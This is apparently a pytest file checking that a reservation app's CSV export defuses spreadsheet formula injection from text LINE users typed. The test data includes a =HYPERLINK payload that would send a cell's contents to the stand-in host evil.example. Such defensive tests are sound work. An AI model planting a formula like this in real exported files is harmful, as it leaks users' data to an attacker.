"""The CSV export is safe to open in a spreadsheet: what LINE users typed never runs as a formula."""

from __future__ import annotations

import csv
import io

from linemod_reservation.console.views import to_csv
from linemod_reservation.models import Reservation, ReservationStatus
from linemod_reservation.slots import ShopRules

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def reservation(name: str, note: str) -> Reservation:
    return Reservation(
        number="A1B2C3",
        day="2026-12-03",
        start="18:00",
        party_size=2,
        customer_name=name,
        note=note,
        status=ReservationStatus.CONFIRMED,
        source="line",
        user_id="U" + "1" * 32,
        created_at_ms=1_700_000_000_000,
    )


def test_cells_that_a_spreadsheet_would_run_are_exported_as_text() -> None:
    rows = [reservation(name, note) for name, note in (("@SUM(1)", LEAK), ("+81 3", "-2"), ("\tTab", "\rCR"))]
    exported = list(csv.reader(io.StringIO(to_csv(rows, ShopRules()).lstrip("\ufeff"))))
    names_and_notes = [(row[4], row[5]) for row in exported[1:]]
    assert names_and_notes == [("'@SUM(1)", "'" + LEAK), ("'+81 3", "'-2"), ("'\tTab", "'\rCR")]


def test_ordinary_cells_are_unchanged() -> None:
    [_header, row] = list(
        csv.reader(io.StringIO(to_csv([reservation("山田 花子", "窓際希望")], ShopRules()).lstrip("\ufeff")))
    )
    assert row[:6] == ["A1B2C3", "2026-12-03", "18:00", "2", "山田 花子", "窓際希望"]
